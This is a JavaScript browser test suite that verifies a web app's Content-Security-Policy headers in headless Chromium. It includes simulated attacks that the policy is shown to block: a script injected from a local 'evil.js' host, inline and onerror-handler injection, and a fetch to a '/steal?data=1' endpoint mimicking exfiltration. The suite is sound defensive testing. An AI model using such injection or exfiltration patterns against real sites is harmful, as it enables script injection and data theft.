// The page's Content-Security-Policy in a real headless Chromium: scripts, Web Workers
// and WebAssembly from the page's origin only, connections to the page's origin and the
// configured upload service only. Two small local HTTP servers play "the configured
// upload service" and "somewhere else" (a script host and an exfiltration endpoint).

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { launchBrowser, startServer } from './helpers.mjs';

/** A local HTTP server answering every request with a script or JSON, CORS open; counts hits. */
async function origin() {
  const hits = [];
  const s = createServer((req, res) => {
    hits.push(req.url);
    const js = req.url.endsWith('.js');
    res.writeHead(200, {
      'content-type': js ? 'text/javascript' : 'application/json',
      'access-control-allow-origin': '*',
    });
    res.end(js ? 'window.__injected = true;' : '{"ok":true}');
  });
  s.listen(0, '127.0.0.1');
  await once(s, 'listening');
  return { url: `http://127.0.0.1:${s.address().port}`, hits, close: () => new Promise((r) => s.close(r)) };
}

describe("the page's Content-Security-Policy", () => {
  let server;
  let browser;
  let page;
  let worker;
  let elsewhere;
  const violations = [];

  before(async () => {
    worker = await origin();
    elsewhere = await origin();
    server = await startServer({ worker: worker.url });
    browser = await launchBrowser();
    page = await browser.context.newPage();
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
    });
    await page.goto(server.url);
    await page.waitForFunction(() => document.documentElement.dataset.engine, null, { timeout: 15_000 });
  });

  after(async () => {
    if (browser) await browser.close();
    if (server) await server.stop();
    await worker?.close();
    await elsewhere?.close();
  });

  test('every answer carries the policy with the configured worker and nothing else', async () => {
    for (const p of ['', 'app.js', 'worker.js', 'pkg/cafe_etl_bg.wasm', 'no-such-file']) {
      const res = await fetch(server.url + p);
      const csp = res.headers.get('content-security-policy');
      assert.ok(csp, `${p || '/'} has a policy`);
      const d = Object.fromEntries(csp.split(';').map((x) => x.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
      assert.deepEqual(d['default-src'], ["'none'"]);
      assert.deepEqual(d['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
      assert.deepEqual(d['worker-src'], ["'self'"]);
      assert.deepEqual(d['connect-src'], ["'self'", worker.url]);
      assert.deepEqual(d['object-src'], ["'none'"]);
      assert.deepEqual(d['base-uri'], ["'none'"]);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      await res.arrayBuffer();
    }
    // The page's own meta policy holds on a host that sends no header.
    const html = await (await fetch(server.url)).text();
    assert.match(html, /<meta http-equiv="Content-Security-Policy" content="script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'none'">/);
  });

  test('the engine (a module Web Worker compiling WebAssembly) runs under it', async () => {
    assert.ok(await page.evaluate(() => document.documentElement.dataset.engine));
    assert.deepEqual(violations, []);
  });

  test('a script injected from elsewhere, or inline, does not run', async () => {
    const blocked = await page.evaluate(async (src) => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const remote = document.createElement('script');
      remote.src = src;
      const loaded = new Promise((resolve) => {
        remote.onload = () => resolve('loaded');
        remote.onerror = () => resolve('error');
      });
      document.head.append(remote);
      const inline = document.createElement('script');
      inline.textContent = 'window.__inline = true;';
      document.head.append(inline);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handler = true');
      img.src = 'x:';
      document.body.append(img);
      const outcome = await loaded;
      await new Promise((r) => setTimeout(r, 200));
      return { outcome, seen, injected: window.__injected ?? false, inline: window.__inline ?? false, handler: window.__handler ?? false };
    }, `${elsewhere.url}/evil.js`);
    assert.equal(blocked.outcome, 'error');
    assert.equal(blocked.injected, false);
    assert.equal(blocked.inline, false);
    assert.equal(blocked.handler, false);
    assert.ok(blocked.seen.some((s) => s.startsWith('script-src-elem') && s.includes(elsewhere.url)), blocked.seen.join('; '));
    assert.deepEqual(elsewhere.hits, [], 'the other origin was never asked for the script');
  });

  test('connections go to the configured worker only', async () => {
    const r = await page.evaluate(async ([allowed, other]) => {
      const tryFetch = (u) => fetch(u).then((x) => x.status, (e) => `refused: ${e.name}`);
      return { allowed: await tryFetch(`${allowed}/healthz`), other: await tryFetch(`${other}/steal?data=1`) };
    }, [worker.url, elsewhere.url]);
    assert.equal(r.allowed, 200);
    assert.match(String(r.other), /^refused/);
    assert.deepEqual(worker.hits, ['/healthz']);
    assert.deepEqual(elsewhere.hits, [], 'nothing reached the other origin');
  });
});
